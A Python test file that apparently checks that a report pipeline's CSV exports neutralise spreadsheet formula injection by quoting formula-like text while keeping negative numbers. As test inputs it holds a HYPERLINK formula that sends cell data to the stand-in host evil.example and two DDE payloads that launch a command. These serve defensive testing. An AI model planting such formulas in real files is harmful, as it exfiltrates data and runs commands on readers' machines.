"""The report's CSV tables: article text a spreadsheet would run as a formula is quoted, numbers are not."""

from __future__ import annotations

import pandas as pd

from analysis.core import config, storage, tables
from analysis.report import exports
from analysis.report.notebook import REPORT_TABLES

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CALC = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def _row(name: str, **values) -> pd.DataFrame:
    empty = tables.empty(name)
    defaults = {c: (0 if empty[c].dtype.kind in "iuf" else False if empty[c].dtype.kind == "b" else "x")
                for c in empty.columns}
    return pd.DataFrame([{**defaults, **values}]).astype(empty.dtypes.to_dict())


def test_report_tables_quote_formula_text_and_keep_negative_numbers(tmp_path):
    paths = config.study_paths("t", root=tmp_path)
    for name in REPORT_TABLES:
        storage.write_table(tables.empty(name), paths.table(name))
    storage.write_table(_row("facts", fact_id="f1", event_id="e1", fact_text=HYPERLINK), paths.table("facts"))
    storage.write_table(_row("fact_coverage", group_var="outlet", group="@Outlet", fact_id="f1", event_id="e1",
                             share=0.5), paths.table("fact_coverage"))
    storage.write_table(_row("frame_evidence", sentence=CALC, left="-", right="- 1"), paths.table("frame_evidence"))
    storage.write_table(_row("sentiment_evidence", text=SUM, score=-0.25, pull=-1.5), paths.table("sentiment_evidence"))
    paths.interim.mkdir(parents=True, exist_ok=True)
    (paths.interim / "collection_status.csv").write_text("url,status\n=1+1,fetched\nhttp://a.example/,fetched\n")
    exports.export_tables(paths)

    def cells(name: str) -> pd.DataFrame:
        return pd.read_csv(paths.tables / f"{name}.csv", dtype=str, keep_default_na=False)

    assert cells("facts")["fact_text"].tolist() == ["'" + HYPERLINK]
    coverage = cells("fact_coverage")
    assert coverage.columns.tolist() == ["fact_id", "event_id", "fact_text", "'@Outlet"]  # an outlet as a header
    assert coverage["fact_text"].tolist() == ["'" + HYPERLINK] and coverage["'@Outlet"].tolist() == ["0.5"]
    evidence = cells("frame_evidence").iloc[0]
    assert (evidence["sentence"], evidence["left"], evidence["right"]) == ("'" + CALC, "'-", "'- 1")
    sentiment = cells("sentiment_evidence").iloc[0]
    assert (sentiment["text"], sentiment["score"], sentiment["pull"]) == ("'" + SUM, "-0.25", "-1.5")
    assert cells("collection_status")["url"].tolist() == ["'=1+1", "http://a.example/"]
